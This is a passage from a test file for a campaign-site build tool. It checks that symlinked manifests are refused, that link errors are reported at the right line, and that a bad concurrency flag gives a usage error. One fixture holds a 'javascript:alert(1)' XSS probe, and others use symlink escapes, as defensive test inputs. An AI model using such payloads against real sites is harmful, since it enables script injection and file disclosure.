    ['inside the shard folder', 'shard-1/c/manifest.json is reached through a symbolic link'],
  ] as const) {
    it(`a manifest.json that is a symbolic link ${where} (to a manifest the control merges) is refused, not followed`, async () => {
      writeFiles(cdir(), { 'campaign.md': campaignMd({ id: 'c' }) });
      shard('c', 'en/social-card-square.png');
      // The very manifest the control merges, moved away and linked back in.
      const file = path.join(root, 'shard-1', 'c', 'manifest.json');
      const text = readFileSync(file, 'utf8');
      const target = where.startsWith('outside') ? secretOutside('manifest.json', text) : path.join(root, 'shard-1', 'kept.json');
      if (!where.startsWith('outside')) writeFileSync(target, text);
      replaceWithLink(file, target);
      await mergeRefused(message);
    });
  }
});

describe('errors name the line of the input itself', () => {
  it('a bad link on the 12th line of a testimony body is reported at its own file line, not the body first line', async () => {
    const body = [
      'ڕۆژێک لە ڕێگادا بووین.',
      '',
      'قاچاخچییەکە گوتی بەلەمەکە سەلامەتە.',
      'ئێمە باوەڕمان کرد.',
      '',
      '- یەکەم شەو',
      '- دووەم شەو',
      '',
      'دەریا زۆر سارد بوو،',
      'و منداڵەکان دەگریان.',
      'پاشان پەیوەندیمان کرد بە',
      '[هێڵی یارمەتی](http://helpline.example/ckb) و',
      'وەڵامیان دایەوە.',
      '',
      '* [ئەم بەستەرە](javascript:alert(1)) لە لیستێکدایە',
    ].join('\n');
    const text = testimonyMd({ id: 't1', body });
    const lines = text.split('\n');
    const httpLine = lines.findIndex((l) => l.includes('http://helpline.example')) + 1;
    const jsLine = lines.findIndex((l) => l.includes('javascript:')) + 1;
    const bodyFirst = lines.indexOf('ڕۆژێک لە ڕێگادا بووین.') + 1;
    expect(httpLine - bodyFirst).toBe(11); // the 12th line of the body
    const r = await check({ 'testimonies/t1.md': text });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`campaigns/c/testimonies/t1.md:${httpLine} body: link "http://helpline.example/ckb" is not allowed`);
    expect(r.stderr).toContain(`campaigns/c/testimonies/t1.md:${jsLine} body: link "javascript:alert(1)" is not allowed`);
    expect(r.stderr).not.toContain(`t1.md:${bodyFirst} body`);
    expect(r.build.code).toBe(2);
  });

  it('--concurrency abc is a usage error (exit 2) with a hint, from the real binary', () => {
    writeFiles(cdir(), { 'campaign.md': campaignMd({ id: 'c' }) });
    const r = cli(['build', 'campaigns/c', '--out', 'out', '--concurrency', 'abc']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/--concurrency "abc" is not a whole number from 1 to 16/);
    expect(r.stderr).toMatch(/hint: /);
    expect(listFiles(path.join(root, 'out'))).toEqual([]);
  });
});
